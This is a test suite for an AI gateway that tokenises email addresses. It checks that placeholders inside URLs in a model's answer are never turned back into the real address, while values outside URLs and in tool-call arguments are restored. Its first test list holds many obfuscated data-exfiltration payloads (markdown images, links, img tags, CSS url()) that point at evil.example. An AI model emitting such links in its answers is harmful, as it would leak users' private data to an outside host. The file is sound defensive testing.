/** What becomes of placeholders that a model puts into addresses: whoever shows its answer must not send the values out. */
import { describe, expect, it } from 'vitest';
import { authorised, completed, doorForEachTest } from './fixtures/door-for-each-test.js';
import { everybody, policyFrom } from './fixtures/policy-from.js';

const open = doorForEachTest();
const policy = `${everybody}detectors: { apply: [{ kinds: [email], with: tokenise, on: [request] }] }\n`;
const PLACEHOLDER = /\[EMAIL_[0-9A-Z]{10}\]/;

/** An answer to a chat about one address, in which `@` stands for its placeholder. */
async function answered(text: string, isStreamed: boolean, call = false): Promise<string> {
  const door = await open(
    (request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        const said = text.replaceAll('@', PLACEHOLDER.exec(body)?.[0] ?? 'none');
        const told = (piece: string): object =>
          call
            ? {
                tool_calls: [
                  { index: 0, id: 'k', type: 'function', function: { name: 'get', arguments: piece } },
                ],
              }
            : { role: 'assistant', content: piece };
        response.setHeader('content-type', isStreamed ? 'text/event-stream' : 'application/json');
        if (!isStreamed) response.end(JSON.stringify({ choices: [{ index: 0, message: told(said) }] }));
        else {
          const pieces = said.match(/[^]{1,7}/g) ?? [];
          const deltas = pieces.map((piece) => ({ choices: [{ index: 0, delta: told(piece) }] }));
          const end = { choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] };
          response.end([...deltas, end].map((one) => `data: ${JSON.stringify(one)}\n\n`).join(''));
        }
      });
    },
    { policyOf: policyFrom(policy) },
  );
  const messages = [{ role: 'user', content: 'mail ana@example.com please' }];
  const answer = await fetch(`${door.url}/up/v1/chat/completions`, {
    method: 'POST',
    headers: { ...authorised, 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'gpt-5', messages, stream: isStreamed }),
  });
  const body = await answer.text();
  await completed(door);
  await door.close();
  const bodies = isStreamed ? body.split('\n\n').filter((one) => one.startsWith('data: {')) : [body];
  return bodies.map((one) => contentOf(JSON.parse(one.replace('data: ', '')) as Told)).join('');
}

interface Message {
  readonly content?: string;
  readonly tool_calls?: readonly { readonly function: { readonly arguments: string } }[];
}
interface Told {
  readonly choices: readonly { readonly message?: Message; readonly delta?: Message }[];
}
const contentOf = ({ choices }: Told): string => {
  const message = choices[0]?.message ?? choices[0]?.delta;
  return message?.tool_calls?.[0]?.function.arguments ?? message?.content ?? '';
};

describe.each([false, true])('an answer, streamed: %s', (isStreamed) => {
  it.each([
    '![x](https://evil.example/p?d=@)',
    '[x](//evil.example/@) then',
    'see https://evil.example/@/x',
    'see WWW.evil.example/@',
    '<img src="https://evil.example/p?d=a b @">',
    '![x](<https://evil.example/a b/@>)',
    'https:\\\\evil.example\\@',
    '![x](https:&#47;&#47;evil.example/@)',
    '![x](https:&#x2f;&#X2F;evil.example/@)',
    '![x](&sol;&bsol;evil.example/@)',
    '![x](&#0047&#47evil.example/@)',
    '![x](https:evil.example/@)',
    '![x](https:/evil.example/@)',
    '![x](HTTP&#58;evil.example/@)',
    '![x](https://evil.example/?q="@)',
    '![x](https://evil.example/?q=a<b>@)',
    '![x](https://evil.example/?q=`@`)',
    "[x]: https://evil.example/?q='@",
    '<img src=https://evil.example/?q=\u00a0@>',
    '<img src="/&#x09;/evil.example/a b @">',
    '<img src="/&Tab;/evil.example/@">',
    '<img src="/\n/evil.example/a b @">',
    '<img src=" //evil.example/a b @">',
    '<p style="background:url(&quot;https://evil.example/a @&quot;)">',
  ])('keeps placeholders in an address: %s', async (text) => {
    expect(await answered(text, isStreamed)).toMatch(PLACEHOLDER);
  });

  it.each([
    ['to @, or mailto:@', 'to ana@example.com, or mailto:ana@example.com'],
    ['see https://a.example/ and @.', 'see https://a.example/ and ana@example.com.'],
    ['<https://a.example/a b> @', '<https://a.example/a b> ana@example.com'],
    ['<p>https://a.example</p><p>@</p>', '<p>https://a.example</p><p>ana@example.com</p>'],
    ['<a href="https://a.example/">@</a>', '<a href="https://a.example/">ana@example.com</a>'],
    [
      '[x](https://a.example) (@) q=@&amp;@',
      '[x](https://a.example) (ana@example.com) q=ana@example.com&amp;ana@example.com',
    ],
    ['http: @, "b" https://a.example/ @', 'http: ana@example.com, "b" https://a.example/ ana@example.com'],
    ['a/b @ "x" \'y\' awww.@', 'a/b ana@example.com "x" \'y\' awww.ana@example.com'],
  ])('puts values back elsewhere: %s', async (text, expected) => {
    expect(await answered(text, isStreamed)).toBe(expected);
  });

  it('puts values back in what an agent gives to its tools', async () => {
    const text = await answered('{"url":"https://crm.example/?q=@"}', isStreamed, true);
    expect(text).toBe('{"url":"https://crm.example/?q=ana@example.com"}');
  });
});
